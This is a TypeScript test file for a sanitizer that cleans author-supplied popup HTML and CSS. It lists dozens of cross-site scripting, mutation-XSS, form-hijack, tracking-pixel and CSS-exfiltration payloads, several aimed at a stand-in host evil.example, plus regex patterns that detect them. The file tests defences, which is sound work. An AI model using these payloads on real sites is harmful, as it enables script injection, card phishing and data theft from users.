// Attacks by the author of a popup on the page that shows it, and what a popup may do.
import { describe, expect, test } from 'vitest';
import { cleanPopupCss, cleanPopupStyle } from './popup-css.ts';
import { cleanPopupHtml } from './popup-html.ts';

interface ParsedElement {
  localName: string;
  attributes: Iterable<{ name: string; value: string }>;
}
interface ParsedDocument {
  baseURI: string;
  body: { querySelectorAll(selector: string): Iterable<ParsedElement> };
}
// The package has no types. It parses as browsers do, unlike the cleaner.
const { JSDOM } = (await import('jsdom' as string)) as {
  JSDOM: new (html: string, options: { url: string }) => { window: { document: ParsedDocument } };
};

const own = ['https://www.example.com'];
const clean = (html: string) => cleanPopupHtml(html, own);

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVa\tScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
  '<button formaction="https://evil.example">x</button>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example";</style>',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload="alert(1)"><animate onbegin=alert(1) attributeName=x></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<template shadowrootmode="open"><script>alert(1)</script></template>',
  '<slot name="x" onslotchange="alert(1)"></slot>',
  '<video src="https://evil.example/x.mp4" onerror="alert(1)"><source onerror="alert(1)"></video>',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="/\t/evil.example/pixel.gif">',
  '<img src="https://www.example.com.evil.example/x.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="https://evil.example/x.gif 1x">',
  '<p style="background:url(https://evil.example/x.gif)">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<a data-mh="subscribe" href="https://evil.example">x</a>',
  '<a data-mh="subscribe" href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<p data-mh="eval" data-other="1">x</p>',
  '<a href="https://example.com" ping="https://evil.example">x</a>',
  '<input autofocus onfocus=alert(1)><select><option onclick=alert(1)></select>',
  '<details ontoggle=alert(1) open>x</details>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>',
  '<p title="\'"><img src=x onerror=alert(1)>">x</p>',
  '<<script>alert(1)//<</script>',
  '<!--><img src=x onerror=alert(1)>-->',
];

/** Returns what of a page's HTML could act: code, frames, forms, loads from elsewhere, and places over the page. */
function dangersIn(html: string): string[] {
  const { document } = new JSDOM(`<body>${html}</body>`, { url: 'https://www.example.com/' }).window;
  return [...document.body.querySelectorAll('*')].flatMap((element) => {
    const tag = element.localName;
    const bad =
      /^(script|style|iframe|object|embed|form|input|textarea|select|base|meta|link|svg|math|template|slot|video)$/;
    const attributes = [...element.attributes].flatMap(({ name, value }) => {
      if (/^on|^form|^ping$|^srcset$|^srcdoc$/.test(name)) return `${tag} ${name}`;
      if (name === 'style' && /url|fixed|expression/.test(value)) return `${tag} ${name}`;
      if (name === 'data-mh' && !/^(subscribe|login|register|close)$/.test(value)) return `${tag} ${name}`;
      if (name !== 'src' && name !== 'href') return [];
      const address = new URL(value, document.baseURI);
      const isCode = !/^(https?|mailto|tel):$/.test(address.protocol);
      const isElsewhere = address.host.includes('evil');
      const isData = name === 'src' && value.startsWith('data:image/png;');
      return (isCode && !isData) || isElsewhere ? `${tag} ${name}=${value}` : [];
    });
    return bad.test(tag) ? [tag, ...attributes] : attributes;
  });
}

describe('HTML in the page', () => {
  test.each(attacks)('nothing acts in %s', (attack) => {
    const once = clean(attack);
    expect(dangersIn(once)).toEqual([]);
    expect(clean(once)).toBe(once);
  });

  test('without cleaning, most of them act', () => {
    // Left: those that only another parser or a listener of the page would fall for.
    const harmless = attacks.filter((attack) => dangersIn(attack).length === 0);
    expect(harmless.length).toBeLessThan(attacks.length / 8);
  });

  test('text, tables, links and pictures of the site stay', () => {
    const kept = [
      '<h2 class="a" id="b">Read &amp; on</h2>',
      '<p style="color:red">x <strong>y</strong></p>',
      '<a href="https://example.com/plans">Plans</a>',
      '<a href="/plans" rel="noopener" target="_blank">Plans</a>',
      '<img src="https://www.example.com/logo.png" alt="Logo" />',
      '<img src="/logo.png" alt="" />',
      '<img src="data:image/png;base64,iVBORw0KGgo=" alt="" />',
      '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>',
    ];
    for (const html of kept) expect(clean(html)).toBe(html);
  });

  test.each([
    ['<a data-mh="subscribe">Plans</a>', '<a data-mh="subscribe" href="#mh-subscribe">Plans</a>'],
    [
      '<button data-mh="login" class="x">Log in</button>',
      '<a class="x" data-mh="login" href="#mh-login">Log in</a>',
    ],
    ['<div data-mh="register">Join</div>', '<a data-mh="register" href="#mh-register">Join</a>'],
    ['<a data-mh="close" href="#">No</a>', '<button type="button" data-mh="close">No</button>'],
  ])('%s becomes an element that works', (html, result) => expect(clean(html)).toBe(result));
});

const cssAttacks = [
  '@import "https://evil.example/x.css";',
  '@import url(https://evil.example/x.css);',
  '@font-face { font-family: x; src: url(https://evil.example/x.woff) }',
  'p { background: url(https://evil.example/x.gif) }',
  'p { background: u\\72l(https://evil.example/x.gif) }',
  'p { background: image-set("https://evil.example/x.gif" 1x) }',
  'p { --x: url(https://evil.example/x.gif); background: var(--x) }',
  'p { content: src("https://evil.example") }',
  'input[value^="a"] { background-image: URL( "https://evil.example/a" ) }',
  'p { position: fixed; inset: 0 }',
  'p { position: f\\69xed }',
  'p { --p: fixed; position: var(--p) }',
  'p { pos\\69tion: fixed }',
  'p { position: sticky }',
  '@media all { p { position: fixed } }',
  'p { & span { position: fixed } }',
  '@keyframes x { to { position: fixed } }',
  ':host { position: fixed; contain: none }',
  ':ho\\73t { position: fixed }',
  ':is(:host) { contain: none !important }',
  'p { behavior: url(x.htc) }',
  'p { -moz-binding: url(https://evil.example/x.xml) }',
  'p { width: expression(alert(1)) }',
  'p::after { content: "</style><script>alert(1)</script>" }',
  '</style><script>alert(1)</script>',
  'x</style> { color: red }',
  '@media </style> { p { color: red } }',
];

/** Returns the first text in CSS that loads something, or reaches out of the popup; null without one. */
const dangerInCss = (css: string): string | null =>
  /url|evil\.example|import|font-face|fixed|sticky|host|<\/|behavior|binding|expression/i.exec(
    css.replaceAll(/--p:\s*fixed/g, ''),
  )?.[0] ?? null;

describe('CSS in the page', () => {
  test.each(cssAttacks)('%s loads nothing and stays in its place', (css) => {
    expect(dangerInCss(cleanPopupCss(css))).toBeNull();
  });

  test('without cleaning, all are dangerous but two that a search in the text does not find', () => {
    expect(cssAttacks.filter((css) => dangerInCss(css) === null)).toEqual([
      'p { position: f\\69xed }',
      'p { --p: fixed; position: var(--p) }',
    ]);
  });

  test('other styles stay', () => {
    const css =
      'h2{color:#123;font:bold 1rem/1.5 serif}@media (width<600px){p{position:relative}}p::before{content:"—"}';
    expect(cleanPopupCss(css)).toBe(css);
    expect(cleanPopupStyle('color: red; background: url(x)')).toBe('color:red');
  });
});
